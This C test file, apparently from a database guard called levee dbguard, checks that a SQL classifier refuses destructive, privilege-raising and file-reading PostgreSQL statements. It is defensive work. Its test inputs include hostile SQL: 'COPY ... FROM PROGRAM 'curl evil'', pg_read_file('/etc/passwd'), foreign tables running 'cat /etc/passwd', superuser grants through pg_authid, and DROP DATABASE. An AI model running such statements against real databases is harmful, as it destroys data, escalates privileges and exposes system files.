/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_sql_classify.c: the SQL classifier of levee dbguard (src/sql/).
 *
 * Every case of tests/data/dbguard/cases.tsv (the list the guard's
 * integration tests also run through a real PostgreSQL) is classified with
 * the session settings its earlier queries set, then each rule is tested
 * on its own: DROP and TRUNCATE, always-true WHERE, ALTER ... DROP, COPY,
 * functions, privileges, the walk into CTEs, EXPLAIN ANALYZE, PREPARE,
 * rules, function bodies and DO blocks, dynamic EXECUTE built from
 * constants, standard_conforming_strings, client encodings (bytes written as
 * C escapes), fingerprints, and bounds (4 MiB, deep nesting, a thousand
 * statements).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "levee/levee.h"
#include "sql/sql_classify.h"
#include "util/utf8.h"

/* libpg_query 15-4.0.0 leaks its parser's captured stderr (one strdup)
 * each time its PL/pgSQL parser fails; src/sql/sql_plpgsql.c bounds how
 * often that can happen in a process. */
const char *__lsan_default_suppressions(void);
const char *__lsan_default_suppressions(void) {
  return "leak:pg_query_raw_parse\n";
}

/* --- helpers -------------------------------------------------------------- */

static lv_sql_result classify_with(const char *sql, size_t len, int scs,
                                   const char *enc) {
  lv_sql_session s = {scs, enc};
  lv_sql_result r;
  int rc = lv_sql_classify(sql, len, &s, &r);
  if (rc != LEVEE_OK)
    fail_msg("lv_sql_classify returned %d for: %s", rc, sql);
  return r;
}

static unsigned ops_full(const char *sql, int scs, const char *enc,
                         char *reason, size_t cap) {
  lv_sql_result r = classify_with(sql, strlen(sql), scs, enc);
  unsigned ops = r.ops;
  if (reason)
    snprintf(reason, cap, "%s", r.reason);
  lv_sql_result_free(&r);
  return ops;
}

static unsigned ops_of(const char *sql) {
  return ops_full(sql, 1, NULL, NULL, 0);
}

/* The text is refused with bit (and, when want_reason is set, a reason
 * starting with it). */
#define REFUSED(sql, bit) refused_(sql, bit, NULL, __LINE__)
#define REFUSED_R(sql, bit, reason) refused_(sql, bit, reason, __LINE__)
static void refused_(const char *sql, unsigned bit, const char *reason,
                     int line) {
  char why[LV_SQL_REASON_MAX];
  unsigned ops = ops_full(sql, 1, NULL, why, sizeof why);
  if (!(ops & bit))
    fail_msg("line %d: not refused as %s (ops %#x, %s): %s", line,
             lv_sql_category_name(bit), ops, why, sql);
  if (why[0] == '\0')
    fail_msg("line %d: refused without a reason: %s", line, sql);
  if (reason && strncmp(why, reason, strlen(reason)) != 0)
    fail_msg("line %d: reason \"%s\", wanted \"%s...\": %s", line, why, reason,
             sql);
}

#define PASSED(sql) passed_(sql, __LINE__)
static void passed_(const char *sql, int line) {
  char why[LV_SQL_REASON_MAX];
  unsigned ops = ops_full(sql, 1, NULL, why, sizeof why);
  if (ops != 0)
    fail_msg("line %d: refused (ops %#x, %s): %s", line, ops, why, sql);
}

/* --- the case list -------------------------------------------------------- */

static unsigned category_bit(const char *name) {
  for (unsigned bit = 1; bit <= LV_SQL_UNPARSABLE; bit <<= 1)
    if (lv_sql_category_name(bit) &&
        strcmp(lv_sql_category_name(bit), name) == 0)
      return bit;
  return 0;
}

/* Decodes the case list's escapes into out; \g becomes a NUL (a query
 * boundary: SQL never holds a NUL). Returns the length, or -1. */
static long decode_case(const char *s, size_t n, char *out) {
  size_t o = 0;
  for (size_t i = 0; i < n; i++) {
    if (s[i] != '\\') {
      out[o++] = s[i];
      continue;
    }
    if (i + 1 >= n)
      return -1;
    char e = s[++i];
    if (e == 'n')
      out[o++] = '\n';
    else if (e == 't')
      out[o++] = '\t';
    else if (e == '\\')
      out[o++] = '\\';
    else if (e == 'g')
      out[o++] = '\0';
    else if (e == 'x' && i + 2 < n) {
      char hex[3] = {s[i + 1], s[i + 2], 0};
      char *end;
      long v = strtol(hex, &end, 16);
      if (*end)
        return -1;
      out[o++] = (char)v;
      i += 2;
    } else {
      return -1;
    }
  }
  return (long)o;
}

/* What a query does to the session, as the server would report it in
 * ParameterStatus: SET/RESET of standard_conforming_strings and
 * client_encoding (the case list's queries write them plainly). */
static void follow_session(const char *q, size_t n, int *scs, char *enc,
                           size_t enc_cap) {
  char low[128];
  size_t k = 0;
  for (size_t i = 0; i < n && k + 1 < sizeof low; i++) {
    char ch = q[i];
    if (ch >= 'A' && ch <= 'Z')
      ch = (char)(ch - 'A' + 'a');
    if (ch == '\'' || ch == '=')
      ch = ' ';
    low[k++] = ch;
  }
  low[k] = '\0';
  char name[64], value[64] = "";
  if (sscanf(low, " reset %63s", name) == 1) {
    if (strcmp(name, "standard_conforming_strings") == 0)
      *scs = 1;
    else if (strcmp(name, "client_encoding") == 0)
      snprintf(enc, enc_cap, "UTF8");
    return;
  }
  if (sscanf(low, " set %63s %63s", name, value) != 2)
    return;
  if (strcmp(value, "to") == 0 && sscanf(low, " set %*s to %63s", value) != 1)
    return;
  if (strcmp(name, "standard_conforming_strings") == 0)
    *scs = !(strcmp(value, "off") == 0 || strcmp(value, "false") == 0 ||
             strcmp(value, "0") == 0);
  else if (strcmp(name, "client_encoding") == 0)
    snprintf(enc, enc_cap, "%s", value);
}

static void test_case_list(void **state) {
  (void)state;
  FILE *f = fopen("tests/data/dbguard/cases.tsv", "rb");
  assert_non_null(f);
  char line[8192];
  int lineno = 0, n_refuse = 0, n_pass = 0, failures = 0;
  while (fgets(line, sizeof line, f)) {
    lineno++;
    size_t len = strlen(line);
    assert_true(len < sizeof line - 1); /* no line is cut */
    while (len && (line[len - 1] == '\n' || line[len - 1] == '\r'))
      line[--len] = '\0';
    if (len == 0 || line[0] == '#')
      continue;
    char *tab1 = strchr(line, '\t');
    char *tab2 = tab1 ? strchr(tab1 + 1, '\t') : NULL;
    if (!tab1 || !tab2) {
      fail_msg("cases.tsv:%d: not three fields", lineno);
      break;
    }
    *tab1 = *tab2 = '\0';
    const char *verdict = line, *category = tab1 + 1, *sql = tab2 + 1;
    int refuse = strcmp(verdict, "refuse") == 0;
    if (!refuse && strcmp(verdict, "pass") != 0)
      fail_msg("cases.tsv:%d: verdict %s", lineno, verdict);
    unsigned bit = refuse ? category_bit(category) : 0;
    if (refuse ? !bit : strcmp(category, "-") != 0)
      fail_msg("cases.tsv:%d: category %s", lineno, category);
    char text[8192] = {0};
    long tl = decode_case(sql, strlen(sql), text);
    if (tl < 0)
      fail_msg("cases.tsv:%d: bad escape", lineno);
    int scs = 1;
    char enc[64] = "UTF8";
    unsigned all = 0, first_bad = 0;
    char why[LV_SQL_REASON_MAX] = "";
    for (long q = 0; q <= tl;) {
      const char *end = memchr(text + q, '\0', (size_t)(tl - q));
      long qn = end ? end - (text + q) : tl - q;
      lv_sql_result r = classify_with(text + q, (size_t)qn, scs, enc);
      all |= r.ops;
      if (r.ops && !first_bad) {
        first_bad = r.ops;
        snprintf(why, sizeof why, "%s", r.reason);
      }
      lv_sql_result_free(&r);
      follow_session(text + q, (size_t)qn, &scs, enc, sizeof enc);
      q += qn + 1;
    }
    if (refuse && !(all & bit)) {
      print_error("cases.tsv:%d: not refused as %s (ops %#x): %s\n", lineno,
                  category, all, sql);
      failures++;
    } else if (!refuse && all) {
      print_error("cases.tsv:%d: refused (%#x: %s): %s\n", lineno, all, why,
                  sql);
      failures++;
    }
    if (refuse)
      n_refuse++;
    else
      n_pass++;
  }
  fclose(f);
  assert_int_equal(failures, 0);
  assert_true(n_refuse >= 60);
  assert_true(n_pass >= 40);
}

/* --- rules ---------------------------------------------------------------- */

static void test_categories(void **state) {
  (void)state;
  assert_string_equal(lv_sql_category_name(LV_SQL_DESTRUCTIVE),
                      "dbop.destructive");
  assert_string_equal(lv_sql_category_name(LV_SQL_PRIVILEGE), "dbop.privilege");
  assert_string_equal(lv_sql_category_name(LV_SQL_EXFILTRATION),
                      "dbop.exfiltration");
  assert_string_equal(lv_sql_category_name(LV_SQL_UNRESOLVED),
                      "dbop.unresolved");
  assert_string_equal(lv_sql_category_name(LV_SQL_UNPARSABLE),
                      "dbop.unparsable");
  assert_null(lv_sql_category_name(0));
  assert_null(lv_sql_category_name(0x20));
  assert_null(lv_sql_category_name(LV_SQL_DESTRUCTIVE | LV_SQL_PRIVILEGE));
}

static void test_empty(void **state) {
  (void)state;
  const char *empty[] = {"",  "   \n\t", "-- nothing", "/* a /* nested */ x */",
                         ";", " ; ;; "};
  for (size_t k = 0; k < sizeof empty / sizeof empty[0]; k++) {
    lv_sql_result r = classify_with(empty[k], strlen(empty[k]), 1, NULL);
    assert_int_equal(r.ops, 0);
    assert_int_equal(r.n_stmts, 0);
    assert_int_equal(r.fingerprint, 0);
    assert_string_equal(r.reason, "");
    lv_sql_result_free(&r);
  }
  /* NULL text of length 0, NULL session */
  lv_sql_result r;
  assert_int_equal(lv_sql_classify(NULL, 0, NULL, &r), LEVEE_OK);
  assert_int_equal(r.n_stmts, 0);
  assert_non_null(r.text);
  lv_sql_result_free(&r);
  lv_sql_result_free(NULL);
  assert_int_equal(lv_sql_classify(NULL, 1, NULL, &r), LEVEE_EINVAL);
  assert_int_equal(lv_sql_classify("x", 1, NULL, NULL), LEVEE_EINVAL);
}

static void test_drop(void **state) {
  (void)state;
  REFUSED_R("DROP TABLE accounts", LV_SQL_DESTRUCTIVE, "DROP TABLE accounts");
  REFUSED_R("drop materialized view public.mv", LV_SQL_DESTRUCTIVE,
            "DROP MATERIALIZED VIEW public.mv");
  REFUSED_R("DROP FUNCTION f(int)", LV_SQL_DESTRUCTIVE, "DROP FUNCTION f");
  REFUSED_R("DROP SCHEMA s CASCADE", LV_SQL_DESTRUCTIVE, "DROP SCHEMA s");
  REFUSED_R("DROP TYPE t", LV_SQL_DESTRUCTIVE, "DROP TYPE t");
  REFUSED_R("DROP DATABASE prod", LV_SQL_DESTRUCTIVE, "DROP DATABASE prod");
  REFUSED_R("DROP DATABASE prod WITH (FORCE)", LV_SQL_DESTRUCTIVE, "DROP");
  REFUSED_R("DROP ROLE ops", LV_SQL_DESTRUCTIVE, "DROP ROLE");
  REFUSED_R("DROP USER IF EXISTS ops", LV_SQL_DESTRUCTIVE, "DROP ROLE");
  REFUSED_R("DROP OWNED BY ops", LV_SQL_DESTRUCTIVE, "DROP OWNED");
  REFUSED_R("DROP TABLESPACE ts", LV_SQL_DESTRUCTIVE, "DROP TABLESPACE ts");
  REFUSED_R("DROP SUBSCRIPTION sub", LV_SQL_DESTRUCTIVE, "DROP SUBSCRIPTION");
  REFUSED_R("DROP USER MAPPING FOR ops SERVER s", LV_SQL_DESTRUCTIVE,
            "DROP USER MAPPING");
  REFUSED_R("DROP SERVER s", LV_SQL_DESTRUCTIVE, "DROP SERVER s");
  REFUSED_R("DROP POLICY p ON accounts", LV_SQL_DESTRUCTIVE, "DROP POLICY");
  REFUSED_R("DROP TRIGGER t ON accounts", LV_SQL_DESTRUCTIVE, "DROP TRIGGER");
  REFUSED_R("DROP EXTENSION dblink", LV_SQL_DESTRUCTIVE, "DROP EXTENSION");
  REFUSED_R("DROP INDEX CONCURRENTLY i", LV_SQL_DESTRUCTIVE, "DROP INDEX i");
  REFUSED_R("DROP TEXT SEARCH CONFIGURATION c", LV_SQL_DESTRUCTIVE,
            "DROP TEXT SEARCH CONFIGURATION");
  REFUSED_R("TRUNCATE accounts", LV_SQL_DESTRUCTIVE, "TRUNCATE accounts");
  REFUSED_R("TRUNCATE ONLY orders RESTART IDENTITY", LV_SQL_DESTRUCTIVE,
            "TRUNCATE orders");
  /* the words elsewhere */
  PASSED("SELECT 'DROP TABLE accounts', $$TRUNCATE x$$, E'DROP\\nTABLE'");
  PASSED("SELECT 1 /* DROP TABLE t */ -- TRUNCATE t");
  PASSED("SELECT \"drop\", \"truncate\" FROM \"DROP TABLE t\"");
  PASSED("CREATE TABLE drop_log (drop int, truncate text)");
  PASSED("CREATE INDEX ON accounts (name)");
  PASSED("CREATE TABLE t AS SELECT 1 AS x");
  PASSED("ALTER TABLE accounts ADD COLUMN note text; ALTER TABLE accounts "
         "RENAME TO accounts2");
  PASSED("BEGIN; SAVEPOINT a; RELEASE SAVEPOINT a; COMMIT");
  PASSED("SET search_path TO public; SHOW search_path; RESET search_path");
  PASSED("VACUUM ANALYZE accounts; CHECKPOINT; LISTEN x; NOTIFY x");
}

static void test_where(void **state) {
  (void)state;
  static const char *always[] = {
      "1=1",
      "true",
      "'a'='a'",
      "NOT false",
      "1::bool",
      "'t'::boolean",
      "'yes'",
      "id = 5 OR true",
      "2>1",
      "2 >= 2",
      "1.5 > 1",
      "id = id",
      "a.b = a.b",
      "id >= id",
      "id IS NOT DISTINCT FROM id",
      "c IS NULL OR c IS NOT NULL",
      "c IS NOT NULL OR c IS NULL",
      "coalesce(true, x)",
      "coalesce(NULL, true)",
      "NOT (x <> x)",
      "x > 5 OR x <= 5",
      "x = 1 OR NOT x = 1",
      "p IS TRUE OR p IS NOT TRUE",
      "name LIKE '%'",
      "name ILIKE '%%'",
      "'abc' LIKE 'a_c'",
      "1 IN (1, 2)",
      "id IN (id)",
      "3 NOT IN (1, 2)",
      "2 BETWEEN 1 AND 3",
      "2 BETWEEN SYMMETRIC 3 AND 1",
      "CASE WHEN true THEN true END",
      "CASE 1 WHEN 1 THEN true ELSE false END",
      "'a' || 'b' = 'ab'",
      "upper('a') = 'A'",
      "concat('a', NULL, 'b') = 'ab'",
      "length('x') = 1",
      "random() < 2",
      "random() <> random()",
      "$1",
      "$1 = $1",
      "EXISTS (SELECT 1)",
      "(SELECT true)",
      "current_user = 'app'",
      "now() > '2020-01-01'",
      "-1 < 0",
      "NULLIF(1, 2) = 1",
      "true IS TRUE",
      "NULL IS NULL",
      "1 + 1 = 2",
      "10 / 3 = 3",
      "'1' = 1",
      "'on'::bool AND 't'",
      "format('%s', 'x') = 'x'",
  };
  static const char *depends[] = {
      "id = 5",
      "false",
      "1 = 0",
      "NULL",
      "NOT true",
      "'a' = 'b'",
      "id <> id",
      "x < x",
      "id IS DISTINCT FROM id",
      "p AND NOT p",
      "x = 1 AND x <> 1",
      "c IS NULL AND c IS NOT NULL",
      "created < now() - interval '1 year'",
      "name = 'a' OR name = 'b'",
      "id IN (SELECT id FROM t2)",
      "EXISTS (SELECT 1 FROM t2 WHERE t2.id = t.id)",
      "1 IN (2, 3)",
      "2 BETWEEN 3 AND 4",
      "name LIKE 'a%'",
      "id = 1 AND 1 = 1",
      "true AND id = 2",
      "NULL AND true",
      "1 = 1 AND false",
      "NULL::bool",
      "1 / 0 = 1 AND id = 1",
      "id = -1",
  };
  char sql[512];
  for (size_t k = 0; k < sizeof always / sizeof always[0]; k++) {
    snprintf(sql, sizeof sql, "DELETE FROM t WHERE %s", always[k]);
    REFUSED_R(sql, LV_SQL_DESTRUCTIVE, "DELETE with an always-true WHERE");
    snprintf(sql, sizeof sql, "UPDATE t SET x = 1 WHERE %s", always[k]);
    REFUSED_R(sql, LV_SQL_DESTRUCTIVE, "UPDATE with an always-true WHERE");
  }
  for (size_t k = 0; k < sizeof depends / sizeof depends[0]; k++) {
    snprintf(sql, sizeof sql, "DELETE FROM t WHERE %s", depends[k]);
    PASSED(sql);
    snprintf(sql, sizeof sql, "UPDATE t SET x = 1 WHERE %s", depends[k]);
    PASSED(sql);
  }
  REFUSED_R("DELETE FROM t", LV_SQL_DESTRUCTIVE, "DELETE without WHERE on t");
  REFUSED_R("UPDATE t SET x = 1", LV_SQL_DESTRUCTIVE,
            "UPDATE without WHERE on t");
  REFUSED("DELETE FROM t USING u", LV_SQL_DESTRUCTIVE);
  REFUSED("UPDATE t SET x = u.x FROM u", LV_SQL_DESTRUCTIVE);
  PASSED("DELETE FROM t USING u WHERE t.id = u.id");
  PASSED("DELETE FROM t WHERE CURRENT OF c");
  PASSED("UPDATE t SET x = 1 WHERE CURRENT OF c");
  PASSED("SELECT * FROM t WHERE 1 = 1");
  PASSED("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET x = 2");
  /* MERGE: always-true join with a DELETE or UPDATE action */
  REFUSED_R("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
            LV_SQL_DESTRUCTIVE, "MERGE with DELETE");
  REFUSED(
      "MERGE INTO t USING s ON t.id = t.id WHEN MATCHED THEN UPDATE SET x = 1",
      LV_SQL_DESTRUCTIVE);
  REFUSED("MERGE INTO t USING s ON 1 = 1 WHEN MATCHED AND s.x > 0 THEN DELETE",
          LV_SQL_DESTRUCTIVE);
  PASSED("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE");
  PASSED("MERGE INTO t USING s ON true WHEN MATCHED AND false THEN DELETE");
  PASSED(
      "MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)");
  PASSED("MERGE INTO t USING s ON false WHEN MATCHED THEN DELETE");
}

static void test_alter_copy_system(void **state) {
  (void)state;
  REFUSED_R("ALTER TABLE t DROP COLUMN c", LV_SQL_DESTRUCTIVE,
            "ALTER TABLE t DROP COLUMN c");
  REFUSED("ALTER TABLE IF EXISTS t DROP CONSTRAINT t_pkey CASCADE",
          LV_SQL_DESTRUCTIVE);
  REFUSED_R("ALTER TABLE t ALTER COLUMN c DROP DEFAULT", LV_SQL_DESTRUCTIVE,
            "ALTER TABLE t ALTER COLUMN c DROP DEFAULT");
  REFUSED("ALTER TABLE t ALTER COLUMN c DROP NOT NULL", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER TABLE t ALTER COLUMN c DROP IDENTITY", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER TABLE t ALTER COLUMN c DROP EXPRESSION", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER TABLE t NO INHERIT parent", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER TYPE ty DROP ATTRIBUTE a", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER FOREIGN TABLE ft DROP COLUMN c", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER DOMAIN d DROP CONSTRAINT c", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER DOMAIN d DROP NOT NULL", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER DOMAIN d DROP DEFAULT", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER SERVER s OPTIONS (DROP host)", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER PUBLICATION p DROP TABLE t", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER SUBSCRIPTION s DROP PUBLICATION p", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER EXTENSION e DROP FUNCTION f()", LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER TEXT SEARCH CONFIGURATION c DROP MAPPING FOR word",
          LV_SQL_DESTRUCTIVE);
  REFUSED_R("ALTER TABLE t ALTER COLUMN b TYPE numeric USING 0",
            LV_SQL_DESTRUCTIVE, "ALTER TABLE t ALTER COLUMN b TYPE");
  REFUSED("ALTER TABLE t ALTER b TYPE text USING 'x' || 'y'",
          LV_SQL_DESTRUCTIVE);
  PASSED("ALTER TABLE t ALTER COLUMN b TYPE int USING b::int");
  PASSED("ALTER TABLE t ALTER COLUMN b TYPE bigint");
  REFUSED_R("ALTER SYSTEM SET fsync = off", LV_SQL_DESTRUCTIVE, "ALTER SYSTEM");
  REFUSED("ALTER SYSTEM RESET ALL", LV_SQL_DESTRUCTIVE);
  REFUSED_R("LOAD 'plugin'", LV_SQL_DESTRUCTIVE, "LOAD plugin");
  PASSED("ALTER TABLE t ALTER COLUMN c SET DEFAULT 1, ADD CONSTRAINT k CHECK "
         "(c > 0)");
  PASSED("ALTER DOMAIN d SET DEFAULT 0");
  PASSED("ALTER SERVER s OPTIONS (ADD host 'h', SET port '5432')");
  PASSED("ALTER TABLE t RENAME COLUMN a TO b");
  /* COPY */
  REFUSED_R("COPY t TO PROGRAM 'gzip > /tmp/x'", LV_SQL_DESTRUCTIVE,
            "COPY TO PROGRAM");
  assert_int_equal(ops_of("COPY t FROM PROGRAM 'curl evil'"),
                   LV_SQL_DESTRUCTIVE | LV_SQL_EXFILTRATION);
  assert_int_equal(ops_of("COPY t TO '/tmp/t.csv'"), LV_SQL_EXFILTRATION);
  assert_int_equal(ops_of("COPY t FROM '/etc/passwd'"), LV_SQL_EXFILTRATION);
  assert_int_equal(ops_of("COPY (SELECT * FROM t) TO '/tmp/x' CSV"),
                   LV_SQL_EXFILTRATION);
  PASSED("COPY t TO STDOUT");
  PASSED("COPY t (a, b) FROM STDIN WITH (FORMAT csv)");
  PASSED("COPY (SELECT * FROM t WHERE id = 1) TO STDOUT");
  REFUSED("COPY (DELETE FROM t RETURNING *) TO STDOUT", LV_SQL_DESTRUCTIVE);
  REFUSED("COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT",
          LV_SQL_EXFILTRATION);
}

static void test_functions(void **state) {
  (void)state;
  static const char *exfil[] = {
      "pg_read_file('/etc/passwd')",
      "pg_catalog.pg_read_file('x', 0, 10)",
      "pg_read_binary_file('x')",
      "pg_ls_dir('.')",
      "pg_stat_file('x')",
      "lo_import('/etc/passwd')",
      "lo_export(1, '/tmp/x')",
      "pg_ls_waldir()",
      "pg_read_file(filename => 'x')",
  };
  char sql[256];
  for (size_t k = 0; k < sizeof exfil / sizeof exfil[0]; k++) {
    snprintf(sql, sizeof sql, "SELECT %s", exfil[k]);
    REFUSED(sql, LV_SQL_EXFILTRATION);
  }
  REFUSED("SELECT * FROM pg_ls_dir('.') AS d", LV_SQL_EXFILTRATION);
  REFUSED("SELECT lo_unlink(16400)", LV_SQL_DESTRUCTIVE);
  REFUSED_R("SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            LV_SQL_DESTRUCTIVE, "pg_terminate_backend()");
  REFUSED("SELECT pg_drop_replication_slot('s')", LV_SQL_DESTRUCTIVE);
  REFUSED("CALL pg_file_unlink('x')", LV_SQL_DESTRUCTIVE);
  PASSED("SELECT pg_cancel_backend(123), pg_sleep(0), now(), lo_get(1)");
  PASSED("SELECT read_file, \"pg_read_file\" FROM files");
  /* set_config */
  REFUSED_R("SELECT set_config('role', 'ops', false)", LV_SQL_PRIVILEGE,
            "set_config('role')");
  REFUSED("SELECT set_config('SESSION_AUTHORIZATION', 'ops', true)",
          LV_SQL_PRIVILEGE);
  REFUSED("SELECT set_config('ro' || 'le', 'ops', false)", LV_SQL_PRIVILEGE);
  REFUSED("SELECT set_config(x, 'ops', false) FROM t", LV_SQL_UNRESOLVED);
  PASSED("SELECT set_config('search_path', 'public', false)");
  PASSED("SELECT set_config('app.tenant', $1, true)");
  /* SQL given as text */
  REFUSED_R("SELECT dblink_exec('dbname=x', 'DROP TABLE t')",
            LV_SQL_DESTRUCTIVE, "DROP TABLE t (dblink_exec)");
  REFUSED("SELECT dblink_exec('DELETE FROM t')", LV_SQL_DESTRUCTIVE);
  REFUSED("SELECT dblink_exec('DELETE FROM t', false)", LV_SQL_DESTRUCTIVE);
  REFUSED("SELECT dblink_exec('c', 'GRANT ALL ON t TO x', true)",
          LV_SQL_PRIVILEGE);
  REFUSED("SELECT * FROM public.dblink('c', 'SELECT pg_read_file(''x'')') AS "
          "t(a text)",
          LV_SQL_EXFILTRATION);
  REFUSED("SELECT dblink_exec('c', 'TRUNC' || 'ATE t')", LV_SQL_DESTRUCTIVE);
  REFUSED("SELECT dblink_exec('c', q) FROM queue", LV_SQL_UNRESOLVED);
  REFUSED("SELECT dblink_send_query('c', 'DROP TABLE t')", LV_SQL_DESTRUCTIVE);
  REFUSED("SELECT dblink_open('cur', 'SELECT lo_unlink(1)')",
          LV_SQL_DESTRUCTIVE);
  REFUSED("SELECT dblink_exec('c', 'not sql at all')", LV_SQL_UNPARSABLE);
  REFUSED("SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, "
          "false, '')",
          LV_SQL_EXFILTRATION);
  REFUSED("SELECT * FROM ts_stat('SELECT lo_unlink(1)')", LV_SQL_DESTRUCTIVE);
  /* the same functions under another name */
  REFUSED_R("CREATE OPERATOR !!! (RIGHTARG = text, FUNCTION = pg_read_file)",
            LV_SQL_EXFILTRATION, "pg_read_file() under another name");
  REFUSED("CREATE AGGREGATE a(text) (SFUNC = pg_read_file, STYPE = text)",
          LV_SQL_EXFILTRATION);
  REFUSED("CREATE CAST (int AS text) WITH FUNCTION pg_catalog.lo_unlink(oid)",
          LV_SQL_DESTRUCTIVE);
  REFUSED("ALTER FUNCTION pg_terminate_backend(int) RENAME TO harmless",
          LV_SQL_DESTRUCTIVE);
  PASSED("CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = "
         "int4eq)");
  PASSED("ALTER FUNCTION my_report(int) RENAME TO my_report2");
  /* file_fdw */
  REFUSED("CREATE FOREIGN TABLE f (l text) SERVER files OPTIONS (program "
          "'cat /etc/passwd')",
          LV_SQL_DESTRUCTIVE);
  REFUSED("CREATE FOREIGN TABLE f (l text) SERVER files OPTIONS (filename "
          "'/etc/passwd')",
          LV_SQL_EXFILTRATION);
  PASSED("CREATE FOREIGN TABLE f (id int) SERVER remote OPTIONS (table_name "
         "'t')");
  PASSED("SELECT * FROM dblink('dbname=x', 'SELECT id FROM t') AS t(id int)");
  PASSED("SELECT dblink_connect('c', 'dbname=x'), dblink_disconnect('c')");
}

static void test_privilege(void **state) {
  (void)state;
  REFUSED_R("GRANT SELECT ON t TO ops", LV_SQL_PRIVILEGE, "GRANT");
  REFUSED_R("REVOKE ALL ON SCHEMA public FROM PUBLIC", LV_SQL_PRIVILEGE,
            "REVOKE");
  REFUSED_R("GRANT app TO ops WITH ADMIN OPTION", LV_SQL_PRIVILEGE,
            "GRANT of a role");
  REFUSED("REVOKE app FROM ops", LV_SQL_PRIVILEGE);
  REFUSED("GRANT EXECUTE ON FUNCTION f() TO ops", LV_SQL_PRIVILEGE);
  REFUSED_R("ALTER ROLE ops SUPERUSER", LV_SQL_PRIVILEGE, "ALTER ROLE ops");
  REFUSED("ALTER USER ops VALID UNTIL 'infinity'", LV_SQL_PRIVILEGE);
  REFUSED("ALTER GROUP admins ADD USER ops", LV_SQL_PRIVILEGE);
  REFUSED_R("ALTER ROLE ops IN DATABASE d SET role = 'app'", LV_SQL_PRIVILEGE,
            "ALTER ROLE ops SET");
  REFUSED("ALTER ROLE ALL SET statement_timeout = 0", LV_SQL_PRIVILEGE);
  REFUSED("ALTER ROLE ops RENAME TO ops2", LV_SQL_PRIVILEGE);
  REFUSED_R("CREATE ROLE x SUPERUSER", LV_SQL_PRIVILEGE,
            "CREATE ROLE x SUPERUSER");
  REFUSED("CREATE USER x WITH CREATEROLE LOGIN", LV_SQL_PRIVILEGE);
  REFUSED("CREATE ROLE x CREATEDB", LV_SQL_PRIVILEGE);
  REFUSED("CREATE ROLE x REPLICATION", LV_SQL_PRIVILEGE);
  REFUSED("CREATE ROLE x BYPASSRLS", LV_SQL_PRIVILEGE);
  REFUSED("CREATE ROLE x IN ROLE admin", LV_SQL_PRIVILEGE);
  REFUSED("CREATE ROLE x ROLE ops", LV_SQL_PRIVILEGE);
  REFUSED("CREATE GROUP g ADMIN ops", LV_SQL_PRIVILEGE);
  PASSED("CREATE ROLE reader LOGIN PASSWORD 'x' NOSUPERUSER NOCREATEDB");
  PASSED("CREATE USER reader");
  REFUSED_R("SET ROLE ops", LV_SQL_PRIVILEGE, "SET ROLE");
  REFUSED("SET LOCAL ROLE ops", LV_SQL_PRIVILEGE);
  REFUSED("SET role TO DEFAULT", LV_SQL_PRIVILEGE);
  REFUSED_R("SET SESSION AUTHORIZATION ops", LV_SQL_PRIVILEGE,
            "SET SESSION AUTHORIZATION");
  REFUSED("SET SESSION AUTHORIZATION DEFAULT", LV_SQL_PRIVILEGE);
  PASSED("RESET ROLE");
  PASSED("RESET SESSION AUTHORIZATION");
  PASSED("RESET ALL");
  PASSED("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY");
  REFUSED("ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT ALL ON TABLES TO ops",
          LV_SQL_PRIVILEGE);
  REFUSED("REASSIGN OWNED BY ops TO app", LV_SQL_PRIVILEGE);
  REFUSED_R("ALTER TABLE t OWNER TO ops", LV_SQL_PRIVILEGE,
            "ALTER TABLE t OWNER TO");
  REFUSED("ALTER DATABASE d OWNER TO ops", LV_SQL_PRIVILEGE);
  REFUSED("ALTER FUNCTION f() OWNER TO ops", LV_SQL_PRIVILEGE);
  REFUSED("ALTER SCHEMA s OWNER TO CURRENT_USER", LV_SQL_PRIVILEGE);
  REFUSED("ALTER TABLE t DISABLE ROW LEVEL SECURITY", LV_SQL_PRIVILEGE);
  REFUSED_R("UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'",
            LV_SQL_PRIVILEGE, "write to system catalog pg_authid");
  REFUSED("INSERT INTO pg_catalog.pg_auth_members VALUES (1, 2, 3, false)",
          LV_SQL_PRIVILEGE);
  REFUSED("DELETE FROM pg_catalog.pg_proc WHERE proname = 'f'",
          LV_SQL_PRIVILEGE);
  PASSED("SELECT rolname FROM pg_roles; SELECT * FROM pg_stat_activity");
  REFUSED("ALTER TABLE t NO FORCE ROW LEVEL SECURITY", LV_SQL_PRIVILEGE);
  PASSED("ALTER TABLE t ENABLE ROW LEVEL SECURITY");
}

static void test_walk(void **state) {
  (void)state;
  /* CTEs and subqueries */
  REFUSED("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
          LV_SQL_DESTRUCTIVE);
  REFUSED("WITH a AS (SELECT 1), b AS (UPDATE t SET x = 0 RETURNING *) "
          "INSERT INTO log SELECT * FROM b",
          LV_SQL_DESTRUCTIVE);
  REFUSED("SELECT * FROM t WHERE x = (SELECT pg_read_file('x'))",
          LV_SQL_EXFILTRATION);
  /* EXPLAIN runs its statement only with ANALYZE */
